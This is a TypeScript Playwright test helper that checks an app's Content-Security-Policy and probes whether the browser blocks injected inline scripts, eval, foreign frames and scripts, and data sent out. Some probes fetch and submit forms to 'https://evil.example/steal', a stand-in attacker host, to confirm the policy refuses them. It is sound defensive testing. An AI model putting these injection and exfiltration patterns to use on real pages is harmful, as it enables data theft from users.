import { expect, type Page } from '@playwright/test';

/**
 * Checks of the console's Content-Security-Policy, shared by the browser-host spec
 * (security.spec.ts) and the Electron spec (electron.spec.ts): the header itself, and what the
 * real browser engine does with it.
 */

/** A foreign origin for the tests; Playwright routes catch anything that would reach it. */
export const FOREIGN_ORIGIN = 'https://evil.example';

export function parseCsp(header: string): Map<string, string[]> {
  const directives = new Map<string, string[]>();
  for (const part of header.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) directives.set(name.toLowerCase(), sources);
  }
  return directives;
}

/** Scripts from the console itself only; no inline, no eval, nothing from elsewhere; connections only to `connectSrc`. */
export function expectStrictCsp(header: string, connectSrc: readonly string[]): void {
  const csp = parseCsp(header);
  expect(csp.get('default-src')).toEqual(["'self'"]);
  expect(csp.get('script-src')).toEqual(["'self'"]);
  for (const [name, sources] of csp) {
    for (const source of sources) {
      expect(source, `${name} allows ${source}`).not.toMatch(/^'unsafe-(inline|eval|hashes)'$|^'wasm-unsafe-eval'$|^'strict-dynamic'$|^\*$/);
    }
  }
  expect(csp.get('style-src')?.[0]).toBe("'self'");
  expect(csp.get('style-src')?.slice(1).every((s) => /^'nonce-[A-Za-z0-9+/=]{16,}'$/.test(s))).toBe(true);
  expect(csp.get('connect-src')).toEqual([...connectSrc]);
  expect(csp.get('object-src')).toEqual(["'none'"]);
  expect(csp.get('base-uri')).toEqual(["'none'"]);
  expect(csp.get('form-action')).toEqual(["'none'"]);
  expect(csp.get('frame-ancestors')).toEqual(["'none'"]);
}

type Probe = { ran: boolean; violation: string | null };

/** Runs `act` in the page and reports whether it ran and which CSP directive the browser said it broke. */
async function probe(page: Page, act: 'inline-script' | 'inline-handler' | 'eval' | 'function' | 'string-timer' | 'foreign-script' | 'foreign-frame' | 'foreign-fetch' | 'foreign-form', foreign: string): Promise<Probe> {
  return page.evaluate(
    ({ act, foreign }) =>
      new Promise<Probe>((resolveProbe) => {
        const flags = window as unknown as Record<string, boolean>;
        flags.__hankouProbeRan = false;
        let ran = false;
        const done = (violation: string | null) => {
          document.removeEventListener('securitypolicyviolation', onViolation);
          resolveProbe({ ran: ran || flags.__hankouProbeRan === true, violation });
        };
        const onViolation = (event: SecurityPolicyViolationEvent) => done(event.effectiveDirective);
        document.addEventListener('securitypolicyviolation', onViolation);
        // Not a speed limit: without it an act the policy let through would hang until the test's timeout.
        setTimeout(() => done(null), 5_000);
        try {
          if (act === 'inline-script') {
            const s = document.createElement('script');
            s.textContent = 'window.__hankouProbeRan = true';
            document.head.appendChild(s);
          } else if (act === 'inline-handler') {
            const img = document.createElement('img');
            img.setAttribute('onerror', 'window.__hankouProbeRan = true');
            img.src = 'data:image/png;base64,not-an-image';
            document.body.appendChild(img);
          } else if (act === 'eval' || act === 'function') {
            // Later, from a timer: code run by the DevTools protocol itself may eval (CDP's
            // allowUnsafeEvalBlockedByCSP), the page's own callbacks may not.
            setTimeout(() => {
              try {
                ran = act === 'eval' ? (0, eval)('1 + 1') === 2 : new Function('return 2')() === 2;
              } catch {
                // EvalError: refused; the violation event says by which directive.
              }
            }, 0);
          } else if (act === 'string-timer') {
            setTimeout('window.__hankouProbeRan = true', 0);
          } else if (act === 'foreign-script') {
            const s = document.createElement('script');
            s.src = `${foreign}/x.js`;
            s.onload = () => done(null);
            document.head.appendChild(s);
          } else if (act === 'foreign-frame') {
            const f = document.createElement('iframe');
            f.src = `${foreign}/frame`;
            document.body.appendChild(f);
          } else if (act === 'foreign-fetch') {
            fetch(`${foreign}/steal`, { method: 'POST', body: 'x', mode: 'no-cors' }).then(
              () => (ran = true),
              () => {},
            );
          } else if (act === 'foreign-form') {
            const form = document.createElement('form');
            form.method = 'POST';
            form.action = `${foreign}/steal`;
            document.body.appendChild(form);
            form.submit();
          }
        } catch {
          // form.submit() and friends may throw when refused; the violation event still fires.
        }
      }),
    { act, foreign },
  );
}

/**
 * Every way an injected string could run code or send data elsewhere, each refused by the
 * browser with a securitypolicyviolation naming the directive. `reached` counts requests that
 * got to the foreign origin anyway (the caller routes it): it must stay at zero.
 */
export async function expectCspEnforced(page: Page, foreign = FOREIGN_ORIGIN): Promise<void> {
  expect(await probe(page, 'inline-script', foreign)).toEqual({ ran: false, violation: 'script-src-elem' });
  expect(await probe(page, 'inline-handler', foreign)).toEqual({ ran: false, violation: 'script-src-attr' });
  expect(await probe(page, 'eval', foreign)).toEqual({ ran: false, violation: 'script-src' });
  expect(await probe(page, 'function', foreign)).toEqual({ ran: false, violation: 'script-src' });
  expect(await probe(page, 'string-timer', foreign)).toEqual({ ran: false, violation: 'script-src' });
  expect(await probe(page, 'foreign-script', foreign)).toEqual({ ran: false, violation: 'script-src-elem' });
  expect(await probe(page, 'foreign-frame', foreign)).toEqual({ ran: false, violation: 'frame-src' });
  expect(await probe(page, 'foreign-fetch', foreign)).toEqual({ ran: false, violation: 'connect-src' });
  expect(await probe(page, 'foreign-form', foreign)).toEqual({ ran: false, violation: 'form-action' });
}

/** window.open to a foreign origin gives no window. */
export async function expectWindowOpenBlocked(page: Page, foreign = FOREIGN_ORIGIN): Promise<void> {
  expect(await page.evaluate((url) => window.open(url, '_blank') === null, `${foreign}/popup`)).toBe(true);
}

/** The policy the engine enforces on the loaded page, as it reports it in a violation (its originalPolicy). */
export async function enforcedPolicy(page: Page): Promise<string> {
  return page.evaluate(
    () =>
      new Promise<string>((resolvePolicy) => {
        document.addEventListener('securitypolicyviolation', (event) => resolvePolicy(event.originalPolicy), { once: true });
        // Not a speed limit: a page with no policy reports nothing, and the test fails on ''.
        setTimeout(() => resolvePolicy(''), 5_000);
        const s = document.createElement('script');
        s.textContent = '/* policy probe */';
        document.head.appendChild(s);
      }),
  );
}
